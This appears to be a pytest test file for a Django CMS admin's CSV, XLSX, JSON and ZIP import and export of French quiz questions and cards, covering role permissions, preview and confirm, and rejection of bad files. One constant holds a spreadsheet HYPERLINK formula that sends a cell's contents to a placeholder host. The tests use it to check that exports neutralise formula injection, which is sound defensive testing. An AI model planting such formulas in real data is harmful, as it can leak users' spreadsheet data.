"""Bulk import and export through the admin, as editors use them: upload, preview, confirm.

Every file is built here (CSV text, openpyxl workbooks, JSON); every check reads what the
editor sees (the page, its messages, the downloaded file) and what the database holds.
"""

import csv
import html
import io
import json
import re
import shutil
from html.parser import HTMLParser
from io import StringIO

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from reversion.models import Version

from cms.models import Card, Question, Status
from cms.validators import MEGABYTE
from tests.builders import make_card, make_question

# The admin's select boxes, in the order they offer formats and resources.
CSV, XLSX, JSON, ZIP = "0", "1", "2", "3"
QUESTIONS = "0"

LADDER_HEADERS = ["ref", "genre", "texte", "difficulte", "palier", "proposition_1",
                  "proposition_2", "proposition_3", "proposition_4", "bonnes", "statut"]
CARD_HEADERS = ["ref", "genre", "titre", "couleur", "paire", "questions", "statut"]


@pytest.fixture(autouse=True)
def _held_uploads_in_tmp(settings, tmp_path):
    """Uploads waiting for confirmation go to this test's folder, not the machine's."""
    settings.VAR_DIR = tmp_path


def url(model: str, action: str) -> str:
    return reverse(f"admin:cms_{model}_{action}")


# --- files built in the tests -------------------------------------------------------------


def csv_file(headers, rows, *, delimiter=";") -> bytes:
    out = StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


_CITIES = ("Amiens", "Brest", "Colmar", "Dijon", "Évreux", "Foix", "Gap", "Hyères", "Istres",
           "Jarnac", "Laval", "Mende", "Nancy", "Orléans", "Pau", "Quimper")


def ladder_row(ref, *, step=1, difficulty=1, status="brouillon", text=None):
    """A valid « Qui veut gagner des millions ? » row (a city per ref keeps texts apart)."""
    city = _CITIES[sum(map(ord, ref)) % len(_CITIES)]
    text = text or f"Dans quel département se trouve {city} ({ref}) ?"
    return [ref, "echelle", text, difficulty, step, f"{city} A", f"{city} B", f"{city} C",
            f"{city} D", "1", status]


def ladder_file(*rows) -> bytes:
    return csv_file(LADDER_HEADERS, rows)


def card_file(*rows) -> bytes:
    return csv_file(CARD_HEADERS, rows)


# --- the admin pages, as a browser drives them --------------------------------------------


def upload(client, data: bytes, *, name="lot.csv", file_format=CSV, model="question",
           resource=QUESTIONS, kind=""):
    """Send a file to the import form; return the page (a preview or the form with errors)."""
    return client.post(url(model, "import"), {
        "format": file_format, "resource": resource, "kind": kind,
        "import_file": SimpleUploadedFile(name, data),
    })


class _ConfirmForm(HTMLParser):
    """The hidden fields of the preview's « Confirmer l’importation » form."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.inside = False
        self.action = None
        self.fields: dict[str, str] = {}

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "form" and (attributes.get("action") or "").endswith("/process_import/"):
            self.inside = True
            self.action = attributes["action"]
        elif (tag == "input" and self.inside and attributes.get("name")
              and attributes.get("type") in ("hidden", "text", None)):
            self.fields[attributes["name"]] = attributes.get("value") or ""

    def handle_endtag(self, tag):
        if tag == "form":
            self.inside = False


def confirm(client, preview):
    """Press « Confirmer l’importation » on a preview page; follow the redirect."""
    assert preview.status_code == 200, preview.status_code
    form = _ConfirmForm()
    form.feed(preview.content.decode())
    assert form.action, "no confirm form on the preview:\n" + page_text(preview)[:2000]
    return client.post(form.action, form.fields, follow=True)


def page_text(response) -> str:
    """The text a reader of the page sees, with entities decoded and spaces collapsed."""
    body = re.sub(r"<(script|style)\b.*?</\1>", " ", response.content.decode(), flags=re.S)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", body)).split())


def export(client, model: str, file_format: str) -> bytes:
    """Tick every column of the first resource on the export page and download the file."""
    page = client.get(url(model, "export"))
    assert page.status_code == 200
    prefix = f"{model}resource_"
    columns = sorted(set(re.findall(rf'name="({prefix}\w+)"', page.content.decode())))
    assert columns, "no column to tick on the export page"
    response = client.post(url(model, "export"), {
        "format": file_format, "resource": "0", **dict.fromkeys(columns, "on")})
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- the buttons and who may press them ---------------------------------------------------


def links(response) -> set[str]:
    """The addresses the page links to, without their query strings."""
    found = re.findall(r"<a\b[^>]*\bhref=[\"']([^\"']*)[\"']", response.content.decode())
    return {html.unescape(href).split("?")[0] for href in found}


@pytest.mark.parametrize("persona", ["editor_client", "reviewer_client"])
def test_an_editor_and_a_reviewer_see_import_and_export_on_the_question_list(db, request, persona):
    client = request.getfixturevalue(persona)

    page = client.get(reverse("admin:cms_question_changelist"))

    assert {url("question", "import"), url("question", "export")} <= links(page)


def test_a_reader_sees_export_but_not_import_on_the_question_list(reader_client):
    page = reader_client.get(reverse("admin:cms_question_changelist"))

    assert url("question", "export") in links(page)
    assert url("question", "import") not in links(page)


@pytest.mark.parametrize("model", ["question", "card"])
def test_a_reader_is_refused_the_import_form(reader_client, model):
    assert reader_client.get(url(model, "import")).status_code == 403


@pytest.mark.parametrize("model", ["question", "card"])
def test_a_reader_is_refused_sending_a_file(reader_client, model):
    response = upload(reader_client, ladder_file(ladder_row("lecteur-1")), model=model)

    assert response.status_code == 403
    assert not Question.objects.exists()


@pytest.mark.parametrize("model", ["question", "card"])
def test_a_reader_is_refused_confirming_an_import(reader_client, model):
    response = reader_client.post(url(model, "process_import"), {
        "import_file_name": "lot.csv", "original_file_name": "lot.csv", "format": CSV,
        "resource": "0", "kind": ""})

    assert response.status_code == 403


def test_a_reader_may_export(reader_client):
    make_question("echelle", text="Quel fleuve traverse Lyon ?")

    data = export(reader_client, "question", CSV)

    assert "Quel fleuve traverse Lyon ?" in data.decode("utf-8-sig")


@pytest.mark.parametrize("action", ["import", "export"])
@pytest.mark.parametrize("model", ["question", "card"])
def test_an_anonymous_visitor_is_sent_to_log_in(client, db, model, action):
    response = client.get(url(model, action))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_an_anonymous_visitor_cannot_send_a_file(client, db):
    response = upload(client, ladder_file(ladder_row("anonyme-1")))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
    assert not Question.objects.exists()


# --- preview, then confirm ----------------------------------------------------------------


@pytest.fixture
def existing_ladder(db):
    """Two draft questions the next file meets again: one as it is, one changed."""
    same = make_question("echelle", ref="existante-a", text="Quelle est la capitale du Gers\u202f?",
                         difficulty=1, step=1)
    changed = make_question("echelle", ref="existante-b",
                            text="Quelle est la capitale de l’Aude\u202f?", difficulty=1, step=1)
    return same, changed


def same_row(question):
    """The file row that says exactly what a question built by make_question holds."""
    return [question.ref, "echelle", question.text, question.difficulty, question.step,
            "Proposition 1", "Proposition 2", "Proposition 3", "Proposition 4", "1",
            "brouillon"]


@pytest.fixture
def mixed_file(existing_ladder):
    same, changed = existing_ladder
    changed_row = same_row(changed)
    changed_row[2] = "Quelle est la préfecture de l’Aude\u202f?"
    return ladder_file(
        same_row(same),
        changed_row,
        ladder_row("nouvelle-1", step=2, difficulty=2),
        ladder_row("nouvelle-2", step=3, difficulty=2),
    )


def test_the_preview_counts_new_changed_and_unchanged_rows(editor_client, mixed_file):
    preview = upload(editor_client, mixed_file)

    assert preview.status_code == 200
    assert ("Aperçu : 2 nouvelle(s) ligne(s), 1 modifiée(s), 1 inchangée(s)"
            in page_text(preview))


def test_the_preview_writes_nothing(editor_client, existing_ladder, mixed_file):
    upload(editor_client, mixed_file)

    assert set(Question.objects.values_list("ref", flat=True)) == {"existante-a",
                                                                   "existante-b"}
    assert Question.objects.get(ref="existante-b").text == "Quelle est la capitale de l’Aude\u202f?"


def test_confirming_writes_the_file_and_says_how_many_rows(editor_client, mixed_file):
    done = confirm(editor_client, upload(editor_client, mixed_file))

    assert done.status_code == 200
    assert ("Import terminé : 2 ajouté(s), 1 modifié(s), 1 inchangé(s)."
            in page_text(done))
    assert Question.objects.get(ref="existante-b").text == (
        "Quelle est la préfecture de l’Aude\u202f?")
    new = Question.objects.get(ref="nouvelle-1")
    assert (new.kind, new.step, new.difficulty, new.status) == ("echelle", 2, 2, Status.DRAFT)
    assert [(p.position, p.is_right) for p in new.propositions.all()] == [
        (1, True), (2, False), (3, False), (4, False)]


def test_an_imported_question_has_a_revision_naming_the_file(editor_client, editor):
    confirm(editor_client, upload(editor_client, ladder_file(ladder_row("revisee-1")),
                                  name="lot-de-septembre.csv"))

    question = Question.objects.get(ref="revisee-1")
    versions = Version.objects.get_for_object(question)
    assert versions.exists()
    revision = versions.first().revision
    assert "lot-de-septembre.csv" in revision.get_comment()
    assert revision.user == editor


# --- files that cannot be imported: a message on the form, never a server error -----------


def assert_refused(response, message: str):
    assert response.status_code == 200, response.status_code
    text = page_text(response)
    assert message in text, text[:3000]
    assert "Confirmer l’importation" not in text
    assert not Question.objects.exists()
    assert not Card.objects.exists()


def test_garbage_bytes_named_csv_are_refused_on_the_form(editor_client):
    response = upload(editor_client, bytes(range(256)) * 16, name="donnees.csv")

    assert_refused(response, "Ce fichier n’est pas du texte")
    assert "import_file" in response.context["form"].errors


def truncated_workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(LADDER_HEADERS)
    book.active.append(ladder_row("tronquee-1"))
    out = io.BytesIO()
    book.save(out)
    data = out.getvalue()
    return data[: len(data) // 2]


def test_a_truncated_workbook_is_refused_on_the_form(editor_client):
    response = upload(editor_client, truncated_workbook(), name="lot.xlsx", file_format=XLSX)

    assert_refused(response, "Ce fichier n’est pas un classeur XLSX (ou il est tronqué).")
    assert "import_file" in response.context["form"].errors


def test_a_json_object_instead_of_a_list_is_refused_on_the_form(editor_client):
    item = dict(zip(LADDER_HEADERS, ladder_row("objet-1"), strict=True))

    response = upload(editor_client, json.dumps(item).encode(), name="lot.json",
                      file_format=JSON)

    assert_refused(response, "Le JSON doit être une liste d’objets")


def test_an_unknown_column_is_named(editor_client):
    data = csv_file([*LADDER_HEADERS, "couleur_preferee"], [[*ladder_row("inconnue-1"), "vert"]])

    response = upload(editor_client, data)

    assert_refused(response, "Colonne(s) inconnue(s) : couleur_preferee.")


def test_a_missing_column_is_named(editor_client):
    headers = [h for h in LADDER_HEADERS if h != "difficulte"]
    row = ladder_row("manquante-1")
    del row[LADDER_HEADERS.index("difficulte")]

    response = upload(editor_client, csv_file(headers, [row]))

    assert_refused(response, "Colonne(s) manquante(s) : difficulte.")


def test_a_difficulty_in_words_names_the_line_and_the_column(editor_client):
    rows = [ladder_row("mots-1"), ladder_row("mots-2")]
    rows[1][3] = "facile"

    response = upload(editor_client, ladder_file(*rows))

    assert_refused(response, "Ligne 3, colonne « difficulte » : « facile » n’est pas un nombre")


def test_a_file_over_the_upload_limit_is_refused_on_the_form(editor_client, settings):
    settings.PLATEAU_IMPORT_MAX_ZIP_BYTES = MEGABYTE
    rows = [ladder_row(f"lourde-{n}") for n in range(12_000)]
    data = ladder_file(*rows)
    assert len(data) > MEGABYTE

    response = upload(editor_client, data)

    assert_refused(response, "Le fichier pèse")
    assert "le maximum est 1" in page_text(response)
    assert "import_file" in response.context["form"].errors


# --- the database changed between the preview and the confirmation ----------------------


def test_confirming_after_the_content_changed_writes_nothing(reviewer_client):
    refs = ["palier-1", "palier-2", "palier-3"]
    preview = upload(reviewer_client, ladder_file(
        ladder_row(refs[0], step=1, difficulty=1, status="publie"),
        ladder_row(refs[1], step=2, difficulty=2, status="publie"),
        ladder_row(refs[2], step=3, difficulty=2, status="publie"),
    ))
    assert "Aperçu : 3 nouvelle(s) ligne(s)" in page_text(preview)
    # Meanwhile someone publishes an easy step 4: fine alone, but with the file's step 3
    # (difficulty 2) the published ladder would get easier going up.
    make_question("echelle", status=Status.PUBLISHED, step=4, difficulty=1)

    response = confirm(reviewer_client, preview)

    assert response.status_code == 200
    assert not Question.objects.filter(ref__in=refs).exists()
    assert Question.objects.count() == 1
    text = page_text(response)
    assert "Rien n’a été importé : le contenu a changé depuis l’aperçu" in text
    assert "sont plus faciles que celles du palier 3" in text  # and why
    assert "Import terminé" not in text


# --- who may publish through a file -------------------------------------------------------


def test_an_editor_cannot_import_a_new_published_row(editor_client):
    response = upload(editor_client, ladder_file(ladder_row("publiee-1", status="publie")))

    assert_refused(response, "Ligne 2, colonne « statut » : Vous ne pouvez pas publier")


def test_an_editor_may_import_a_new_row_for_review(editor_client):
    preview = upload(editor_client, ladder_file(ladder_row("relue-1", status="relecture")))
    assert "Aperçu : 1 nouvelle(s) ligne(s), 0 modifiée(s), 0 inchangée(s)" in page_text(preview)

    confirm(editor_client, preview)

    assert Question.objects.get(ref="relue-1").status == Status.REVIEW


def test_a_reviewer_may_import_a_published_row(reviewer_client):
    confirm(reviewer_client,
            upload(reviewer_client, ladder_file(ladder_row("publiee-2", status="publie"))))

    assert Question.objects.get(ref="publiee-2").status == Status.PUBLISHED


def test_an_editor_may_reimport_an_unchanged_published_row(editor_client):
    question = make_question("echelle", ref="deja-publiee", difficulty=1, step=1,
                             status=Status.PUBLISHED)
    row = same_row(question)
    row[-1] = "publie"

    preview = upload(editor_client, ladder_file(row))
    assert "Aperçu : 0 nouvelle(s) ligne(s), 0 modifiée(s), 1 inchangée(s)" in page_text(preview)
    done = confirm(editor_client, preview)

    assert "Import terminé : 0 ajouté(s), 0 modifié(s), 1 inchangé(s)." in page_text(done)
    assert Question.objects.get(ref="deja-publiee").status == Status.PUBLISHED


# --- cards --------------------------------------------------------------------------------


def test_a_cards_file_composes_a_card_in_the_order_given(editor_client):
    order = ["cm-e", "cm-c", "cm-a", "cm-d", "cm-b"]
    for difficulty, ref in enumerate(order, start=1):
        make_question("coup-de-maitre", ref=ref, difficulty=difficulty)

    done = confirm(editor_client, upload(editor_client, card_file(
        ["maitre-1", "coup-de-maitre", "Les volcans", "", "", " ".join(order), "brouillon"],
    ), model="card"))

    assert "Import terminé : 1 ajouté(s)" in page_text(done)
    card = Card.objects.get(ref="maitre-1")
    assert [slot.question.ref for slot in card.ordered_slots()] == order
    assert (card.kind, card.title, card.status) == ("coup-de-maitre", "Les volcans",
                                                    Status.DRAFT)


def duel_questions():
    make_question("duel", ref="duel-q-a")
    make_question("duel", ref="duel-q-b")


def mutual_pair(first_ref: str, second_ref: str) -> bool:
    first = Card.objects.get(ref=first_ref)
    second = Card.objects.get(ref=second_ref)
    return first.pair_id == second.pk and second.pair_id == first.pk


def test_a_duel_pair_named_on_the_first_row_becomes_mutual(editor_client):
    duel_questions()

    confirm(editor_client, upload(editor_client, card_file(
        ["duel-a", "duel", "Les fleuves", "bleu", "duel-b", "duel-q-a", "brouillon"],
        ["duel-b", "duel", "Les fleuves", "bleu", "", "duel-q-b", "brouillon"],
    ), model="card"))

    assert mutual_pair("duel-a", "duel-b")


def test_a_duel_pair_named_on_the_second_row_becomes_mutual(editor_client):
    duel_questions()

    confirm(editor_client, upload(editor_client, card_file(
        ["duel-a", "duel", "Les fleuves", "bleu", "", "duel-q-a", "brouillon"],
        ["duel-b", "duel", "Les fleuves", "bleu", "duel-a", "duel-q-b", "brouillon"],
    ), model="card"))

    assert mutual_pair("duel-a", "duel-b")


def test_an_unknown_question_on_a_card_is_named(editor_client):
    make_question("coup-par-coup", ref="cpc-connue")

    response = upload(editor_client, card_file(
        ["cpc-1", "coup-par-coup", "Les félins", "", "", "cpc-absente", "brouillon"],
    ), model="card")

    assert_refused_cards(response, "Ligne 2, colonne « questions » : Question(s) inconnue(s) : "
                                   "cpc-absente.")


def test_a_question_already_on_another_card_is_named(editor_client):
    holder = make_card("coup-par-coup", ref="cpc-existante")
    taken = holder.ordered_slots()[0].question

    response = upload(editor_client, card_file(
        ["cpc-2", "coup-par-coup", "Les oiseaux", "", "", taken.ref, "brouillon"],
    ), model="card")

    assert_refused_cards(response, f"La question « {taken.ref} » est déjà sur la carte "
                                   "« cpc-existante ».")
    assert [s.question_id for s in Card.objects.get(ref="cpc-existante").ordered_slots()] == [
        taken.pk]


def assert_refused_cards(response, message: str):
    assert response.status_code == 200, response.status_code
    text = page_text(response)
    assert message in text, text[:3000]
    assert "Confirmer l’importation" not in text
    assert not Card.objects.exclude(ref__in=["cpc-existante"]).exists()


# --- export neutralises formulas ----------------------------------------------------------

FORMULA = '=HYPERLINK("https://exemple.invalid/?q="&A1,"Cliquez ici")'


def test_a_csv_export_writes_a_formula_as_quoted_text(reviewer_client):
    make_question("echelle", ref="formule", text=FORMULA)

    data = export(reviewer_client, "question", CSV)

    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    (row,) = [r for r in rows if r["ref"] == "formule"]
    assert row["texte"] == "'" + FORMULA


def test_an_xlsx_export_writes_a_formula_as_a_text_cell(reviewer_client):
    make_question("echelle", ref="formule", text=FORMULA)

    data = export(reviewer_client, "question", XLSX)

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    headers = [cell.value for cell in sheet[1]]
    (row,) = [r for r in sheet.iter_rows(min_row=2) if r[headers.index("ref")].value == "formule"]
    cell = row[headers.index("texte")]
    assert cell.data_type == "s"  # a text cell: a spreadsheet shows it, never runs it
    assert cell.value == FORMULA  # as typed, with no apostrophe in front


# --- the demo library ---------------------------------------------------------------------
# `demo_library` lays the library down as `manage.py load_demo` leaves it: the run imports
# it once through the importers (tests/demo.py), these tests read it or load it again.


def load_demo():
    call_command("load_demo", stdout=StringIO())


def library() -> tuple[dict, dict]:
    """Every field of every question and card, by ref, with the images' bytes."""
    questions = {}
    for q in Question.objects.prefetch_related("propositions"):
        image = b""
        if q.image:
            with default_storage.open(q.image.name, "rb") as stored:
                image = stored.read()
        questions[q.ref] = {
            "kind": q.kind, "text": q.text, "difficulty": q.difficulty, "theme": q.theme,
            "step": q.step, "answer": q.answer, "variants": q.variants,
            "anecdote": q.anecdote, "source": q.source, "status": q.status, "image": image,
            "propositions": [(p.text, p.is_right, p.is_hidden, p.position)
                             for p in q.propositions.all()],
        }
    cards = {}
    for c in Card.objects.select_related("pair").prefetch_related("slots__question"):
        cards[c.ref] = {
            "kind": c.kind, "title": c.title, "colour": c.colour,
            "pair": c.pair.ref if c.pair else None, "status": c.status,
            "questions": [slot.question.ref for slot in c.ordered_slots()],
        }
    return questions, cards


def test_the_demo_library_comes_back_whole_from_an_export_and_reimport(reviewer_client,
                                                                       demo_library):
    before_questions, before_cards = library()
    assert any(q["image"] for q in before_questions.values())
    questions_zip = export(reviewer_client, "question", ZIP)
    cards_json = export(reviewer_client, "card", JSON)

    Card.objects.all().delete()
    Question.objects.all().delete()
    shutil.rmtree(django_settings.MEDIA_ROOT, ignore_errors=True)
    assert library() == ({}, {})

    done = confirm(reviewer_client, upload(reviewer_client, questions_zip,
                                           name="questions.zip", file_format=ZIP))
    assert "Import terminé" in page_text(done), page_text(done)[:3000]
    done = confirm(reviewer_client, upload(reviewer_client, cards_json, name="cartes.json",
                                           file_format=JSON, model="card"))
    assert "Import terminé" in page_text(done), page_text(done)[:3000]

    after_questions, after_cards = library()
    assert after_questions.keys() == before_questions.keys()
    for ref, fields in before_questions.items():
        assert after_questions[ref] == fields, ref
    assert after_cards == before_cards


def test_the_demo_library_has_no_validation_errors(demo_library):
    out = StringIO()
    call_command("validate_content", stdout=out)  # raises CommandError on any error

    assert "Aucune erreur." in out.getvalue()
    assert "ERREUR" not in out.getvalue()


# What the issue asks of the demo: enough published content for a full game of each.
DEMO_MINIMUM_CARDS = {
    "coup-d-envoi": 12, "duel": 6, "coup-par-coup": 8, "coup-fatal": 4, "coup-de-maitre": 5,
    "etoile-mysterieuse": 5, "qualifs": 10, "compet": 3, "defi": 8,
}


def test_the_demo_has_the_published_content_the_issue_asks_for(demo_library):
    published = Card.objects.filter(status=Status.PUBLISHED)
    short = {kind: published.filter(kind=kind).count() for kind, wanted
             in DEMO_MINIMUM_CARDS.items() if published.filter(kind=kind).count() < wanted}
    ladder = Question.objects.filter(kind="echelle", status=Status.PUBLISHED)
    short.update({f"palier {step}": ladder.filter(step=step).count() for step in range(1, 16)
                  if ladder.filter(step=step).count() < 4})
    assert short == {}


def test_the_demo_duel_cards_make_three_mutual_pairs(demo_library):
    duels = list(Card.objects.filter(kind="duel").select_related("pair"))
    assert all(card.pair is not None and card.pair.pair_id == card.pk for card in duels)
    assert len({frozenset((card.pk, card.pair_id)) for card in duels}) >= 3


def test_all_the_demo_content_is_published(demo_library):
    assert Question.objects.exists()
    assert not Question.objects.exclude(status=Status.PUBLISHED).exists()
    assert not Card.objects.exclude(status=Status.PUBLISHED).exists()


def test_loading_the_demo_again_changes_nothing(demo_library):
    # The library as the first load left it (the run's snapshot of it), then a second load.
    before = library()
    stamps = sorted(Question.objects.values_list("ref", "updated_at"))
    versions = Version.objects.count()

    load_demo()

    assert library() == before
    assert sorted(Question.objects.values_list("ref", "updated_at")) == stamps
    assert Version.objects.count() == versions
